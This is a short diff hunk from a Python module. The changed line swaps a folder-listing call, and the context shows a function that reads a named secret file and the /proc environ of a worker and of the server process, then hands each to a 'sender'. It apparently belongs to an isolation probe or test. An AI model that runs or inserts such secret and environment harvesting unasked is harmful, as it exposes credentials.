@@ -100,7 +100,7 @@ def read_files(spec: Spec, sender: Sender, held: Held) -> None:
     _try(sender, "secret", lambda: Path(spec["secret"]).read_bytes())
     _try(sender, "environment", lambda: Path(f"/proc/{spec['worker']}/environ").read_bytes())
     _try(sender, "server", lambda: Path(f"/proc/{os.getppid()}/environ").read_bytes())
-    _try(sender, "listing", lambda: os.listdir(spec["folder"]))
+    _try(sender, "listing", lambda: list(Path(spec["folder"]).iterdir()))
 
 
 def reach_out(spec: Spec, sender: Sender, held: Held) -> None:
